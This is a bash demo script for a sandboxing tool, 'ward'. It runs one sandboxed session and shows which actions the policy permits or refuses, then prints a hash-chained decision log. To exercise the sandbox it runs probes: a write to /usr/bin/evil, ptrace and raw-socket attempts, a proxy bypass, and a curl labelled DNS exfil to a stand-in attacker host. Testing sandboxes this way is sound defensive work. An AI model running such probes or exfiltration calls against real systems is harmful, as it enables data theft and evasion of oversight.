#!/bin/bash
# SPDX-License-Identifier: MIT
# make demo: one real sandboxed session that shows what the policy allows, what
# the kernel refuses, and the decision log that recorded it.
set -u
WARD=${1:-build/ward}
WARD=$(readlink -f "$WARD")
here=$(cd "$(dirname "$0")/.." && pwd)

if [ "$(id -u)" -ne 0 ]; then
	echo "make demo: run as root (ward sets up namespaces, cgroups and BPF)" >&2
	exit 1
fi

tmp=$(mktemp -d /tmp/ward-demo.XXXXXX)
# The demo's API server lives in a network namespace of its own on this
# machine (tests/e2e/lib/upstream.sh); ward reaches it by name via --hosts.
. "$here/tests/e2e/lib/upstream.sh"
trap 'upstream_down_all; rm -rf "$tmp"' EXIT
upstream_up api >/dev/null || { echo "make demo: cannot start the demo API server" >&2; exit 1; }
work=$tmp/project
mkdir -p "$work"
echo "print('hello from the project')" >"$work/app.py"
db=$tmp/decisions.db
policy=$here/policies/examples/demo.yaml

bold() { printf '\n\033[1m%s\033[0m\n' "$*"; }

bold "== The policy ($policy)"
grep -v '^#' "$policy" | sed '/^$/d'

bold "== ward policy check"
"$WARD" policy check "$policy" || exit 1

# The sandbox user must be able to write the project directory.
uid=$("$WARD" run --policy "$policy" --log "$tmp/setup.db" --workdir "$work" --hosts "$UPSTREAM_HOSTS" -- /usr/bin/id -u 2>/dev/null)
[ -n "$uid" ] && chown -R "$uid" "$work"

bold "== A session under the policy"
"$WARD" run --policy "$policy" --log "$db" --workdir "$work" --hosts "$UPSTREAM_HOSTS" -- /bin/sh -c '
try() { desc=$1; shift; if out=$("$@" 2>&1); then printf "  allowed  %-44s\n" "$desc"; else printf "  DENIED   %-44s %s\n" "$desc" "$(echo "$out" | tail -n1 | cut -c1-70)"; fi; }
echo "inside: uid=$(id -u) pid=$$ host=$(hostname) cwd=$(pwd)"
try "write a file in the project"       sh -c "echo ok > notes.txt"
try "run the project (python3 app.py)"  python3 app.py
try "read /etc/os-release (read-only)"  head -n1 /etc/os-release
try "write /usr/bin/evil (read-only)"   sh -c "echo x > /usr/bin/evil"
try "list /root (not in the policy)"    ls /root
try "read host /var/log (not in policy)" ls /var/log
try "see host processes (pid ns)"       sh -c "test \$(ls -d /proc/[0-9]* | wc -l) -gt 10"
try "open a raw socket (seccomp)"       python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"
try "ptrace a process (seccomp)"        python3 -c "import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); sys.exit(0 if l.ptrace(16,1,0,0)==0 else 1)"
try "curl GET http://api.test.example/"  curl -sSf -o /dev/null http://api.test.example/status
try "curl POST (read-only API)"          curl -sSf -o /dev/null -X POST -d x=1 http://api.test.example/items
try "curl another host"                  curl -sSf -o /dev/null http://example.com/
try "curl, proxy bypassed (transparent)" curl -sSf -o /dev/null --noproxy "*" http://api.test.example/status
try "python3 urllib (not in the policy)" python3 -c "import urllib.request; urllib.request.urlopen(\"http://api.test.example/\", timeout=3)"
try "curl an unlisted name (DNS exfil)"  curl -sSf -o /dev/null --noproxy "*" http://exfil-4f2a9c.attacker.example/
exit 3
'
echo "  ward run exited with $? (the command's own status)"

bold "== ward logs (the decision log, $db)"
"$WARD" logs --log "$db"

bold "== One denial as the agent saw it (403 body from the proxy)"
"$WARD" run --policy "$policy" --log "$tmp/setup.db" --workdir "$work" --hosts "$UPSTREAM_HOSTS" -- \
	curl -s -X POST -d x=1 http://api.test.example/items | python3 -m json.tool

bold "== Every row is hash-chained; the policy text is kept per revision"
sqlite3 "$db" "select 'policies stored: ' || count(*) from policies; select 'rows: ' || count(*) || ', last hash ' || substr((select hash from decisions order by id desc limit 1),1,16) || '...' from decisions;"
